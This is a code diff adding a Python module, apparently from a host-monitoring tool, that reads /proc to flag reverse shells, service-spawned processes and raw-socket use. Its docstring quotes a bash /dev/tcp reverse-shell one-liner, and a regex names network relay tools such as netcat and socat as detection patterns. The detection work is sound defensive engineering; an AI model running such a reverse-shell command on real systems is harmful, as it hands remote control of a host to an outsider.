@@ -1,0 +1,207 @@
+"""Outbound behaviour, loader side: `raw_socket` events, and the evidence
+signals attached to `connection` events, read from /proc at event time.
+
+Signals (the event's "signals" object: name -> one line of evidence):
+  stdio_socket    fd 0 or 1 of the connecting process is a TCP socket (matched
+                  by inode in /proc/PID/net/tcp{,6}, the process's own network
+                  namespace): a shell or interpreter talking to the network
+                  through its standard streams is a reverse shell, whatever
+                  the port.
+  parent_service  the parent is a web server or database and the process is
+                  not one of its workers (a program it spawned).
+
+`bash -i >& /dev/tcp/H/443 0>&1` connects first and moves the socket onto
+fd 0/1 a moment later, so a connection by a shell or interpreter whose
+standard streams are not (yet) a socket is held up to HOLD_S and re-read
+until they are, the process is gone, or the time is up; then it is emitted
+either way (holding changes when a connection is reported, never whether).
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import os
+import re
+import time
+from collections import OrderedDict
+from typing import Callable
+
+# Shells, interpreters and relays that have no business with a network socket
+# as stdin/stdout (compared with comm and the exe's basename).
+SHELLS = re.compile(r"^(?:ba|da|z|k|mk|c|tc|fi|a)?sh$|^busybox$|^python[0-9.]*$|^perl[0-9.]*$|"
+                    r"^ruby[0-9.]*$|^php[0-9.]*(?:-cli)?$|^lua[0-9.]*$|^node(?:js)?$|^tclsh[0-9.]*$|"
+                    r"^n(?:et)?cat(?:\.openbsd|\.traditional)?$|^nc(?:\.openbsd|\.traditional)?$|"
+                    r"^socat$|^telnet$|^awk$|^gawk$|^mawk$")
+SERVICES = {"nginx", "apache2", "httpd", "lighttpd", "caddy", "php-fpm", "php-fpm8.2", "uwsgi",
+            "gunicorn", "tomcat", "java", "mysqld", "mariadbd", "postgres", "postmaster",
+            "redis-server", "mongod"}
+TCP_STATES = {"01": "ESTABLISHED", "02": "SYN_SENT", "03": "SYN_RECV", "04": "FIN_WAIT1",
+              "05": "FIN_WAIT2", "06": "TIME_WAIT", "07": "CLOSE", "08": "CLOSE_WAIT",
+              "09": "LAST_ACK", "0A": "LISTEN", "0B": "CLOSING"}
+HOLD_S = 1.0
+MAX_HELD = 256   # beyond this, shells' connections are emitted at once (counted)
+_SOCKET = re.compile(r"^socket:\[(\d+)\]$")
+
+
+def usr_merged(path: str) -> str:
+    """/bin/ping -> /usr/bin/ping where /bin is the root-owned usr-merge link
+    (what /proc/PID/exe would have said). Other paths are left as given."""
+    top, sep, rest = path.lstrip("/").partition("/")
+    if path.startswith("/") and sep and top in ("bin", "sbin", "lib", "lib64") \
+            and os.path.realpath(f"/{top}") == f"/usr/{top}":
+        return f"/usr/{top}/{rest}"
+    return path
+
+
+def is_shell(comm: str | None, exe: str | None) -> bool:
+    names = {(comm or "").lower(), os.path.basename((exe or "").replace(" (deleted)", "")).lower()}
+    return any(n and SHELLS.match(n) for n in names)
+
+
+def _hex_endpoint(text: str) -> str:
+    """/proc/net/tcp's "0100007F:01BB" (or its 32-hex-digit IPv6 form) -> "127.0.0.1:443"."""
+    addr, port = text.split(":")
+    raw = bytes.fromhex(addr)
+    # Each 32-bit word is in host (little-endian) order.
+    raw = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))
+    ip = ipaddress.ip_address(raw)
+    if ip.version == 6 and ip.ipv4_mapped is not None:
+        ip = ip.ipv4_mapped
+    return f"[{ip}]:{int(port, 16)}" if ip.version == 6 else f"{ip}:{int(port, 16)}"
+
+
+def tcp_sockets(pid: int, inodes: set[str]) -> dict[str, str]:
+    """inode -> "remote (STATE)" for the given inodes, from the process's own
+    network namespace (/proc/PID/net/tcp{,6})."""
+    out: dict[str, str] = {}
+    for name in ("tcp", "tcp6"):
+        try:
+            with open(f"/proc/{pid}/net/{name}") as f:
+                next(f, None)
+                for line in f:
+                    parts = line.split()
+                    if len(parts) > 9 and parts[9] in inodes:
+                        out[parts[9]] = f"{_hex_endpoint(parts[2])} ({TCP_STATES.get(parts[3], parts[3])})"
+        except (OSError, ValueError):
+            continue
+    return out
+
+
+def stdio_socket(pid: int) -> str | None:
+    """Evidence when fd 0 or 1 of pid is a TCP socket, else None."""
+    fds: dict[int, str] = {}
+    for fd in (0, 1):
+        try:
+            m = _SOCKET.match(os.readlink(f"/proc/{pid}/fd/{fd}"))
+        except OSError:
+            continue
+        if m:
+            fds[fd] = m.group(1)
+    if not fds:
+        return None
+    found = tcp_sockets(pid, set(fds.values()))
+    hits = [(fd, found[ino]) for fd, ino in fds.items() if ino in found]
+    if not hits:
+        return None
+    return f"fd {','.join(str(fd) for fd, _ in hits)} -> tcp {hits[0][1]}"
+
+
+def _comm(pid: int) -> str | None:
+    try:
+        with open(f"/proc/{pid}/comm", "rb") as f:
+            return f.read().rstrip(b"\n").decode("utf-8", "replace")
+    except OSError:
+        return None
+
+
+def parent_service(ppid: int | None, comm: str | None) -> str | None:
+    if not ppid:
+        return None
+    parent = _comm(ppid)
+    if parent is None or parent == comm:
+        return None  # a worker of the service itself is the service
+    base = re.sub(r"[0-9.]+$", "", parent)
+    if parent in SERVICES or base in SERVICES or parent.startswith("php-fpm"):
+        return f"parent {parent} (pid {ppid})"
+    return None
+
+
+def signals_for(fields: dict) -> dict[str, str]:
+    out = {}
+    stdio = stdio_socket(fields["pid"])
+    if stdio:
+        out["stdio_socket"] = stdio
+    parent = parent_service(fields.get("ppid"), fields.get("comm"))
+    if parent:
+        out["parent_service"] = parent
+    return out
+
+
+class Outbound:
+    """Annotates connection events with signals (holding shells' briefly) and
+    turns raw-socket sightings into events. emit(type, **fields) writes one."""
+
+    def __init__(self, procs, emit: Callable[..., None], hold_s: float = HOLD_S):
+        self.procs = procs
+        self.emit = emit
+        self.hold_s = hold_s
+        self._held: OrderedDict[int, tuple[float, dict]] = OrderedDict()
+        self._seq = 0
+        self.counts = {"raw_sockets": 0, "signalled": 0, "held": 0, "hold_overflow": 0, "lost": 0}
+
+    def raw_socket(self, raw) -> None:
+        info = self.procs.get(raw.pid)
+        self.counts["raw_sockets"] += 1
+        exe, source = info["exe"], "proc"
+        if exe is None and raw.exec_path:
+            # Gone already (ping -c1 lives a millisecond): the path the kernel
+            # saw at execve is the best identity left.
+            exe, source = usr_merged(raw.exec_path), "exec"
+        elif exe is None:
+            source = None
+        self.emit("raw_socket", pid=raw.pid, tid=raw.tid, ppid=info["ppid"], uid=raw.uid,
+                  comm=raw.comm, exe=exe, exe_source=source, exec_path=raw.exec_path,
+                  cmdline=info["cmdline"],
+                  proc_error=info["proc_error"], family=raw.family, sock_type=raw.sock_type,
+                  protocol=raw.protocol, protocol_name=raw.protocol_name, fd=raw.fd)
+
+    def connection(self, fields: dict) -> None:
+        """Emit a connection event now, or hold it (a shell whose stdio is not a socket yet)."""
+        if self._annotate(fields) or not is_shell(fields.get("comm"), fields.get("exe")) \
+                or fields.get("proc_error"):
+            self._emit_connection(fields)
+            return
+        if len(self._held) >= MAX_HELD:
+            self.counts["hold_overflow"] += 1
+            self._emit_connection(fields)
+            return
+        self.counts["held"] += 1
+        self._seq += 1
+        self._held[self._seq] = (time.monotonic() + self.hold_s, fields)
+
+    def _annotate(self, fields: dict) -> bool:
+        found = signals_for(fields)
+        if found:
+            fields["signals"] = found
+        return "stdio_socket" in found
+
+    def _emit_connection(self, fields: dict) -> None:
+        if "signals" in fields:
+            self.counts["signalled"] += 1
+        self.emit("connection", **fields)
+
+    def lost(self, n: int, warn: Callable[[str], None]) -> None:
+        self.counts["lost"] += n
+        warn(f"kernel buffer overflow: {n} raw-socket events lost ({self.counts['lost']} in all)")
+        self.emit("lost", count=n, total=self.counts["lost"], source="raw_events")
+
+    def poll(self, flush: bool = False) -> None:
+        """Re-read held connections; emit the settled ones (all with flush)."""
+        if not self._held:
+            return
+        now = time.monotonic()
+        for key, (until, fields) in list(self._held.items()):
+            gone = not os.path.exists(f"/proc/{fields['pid']}")
+            if self._annotate(fields) or gone or now >= until or flush:
+                del self._held[key]
+                self._emit_connection(fields)
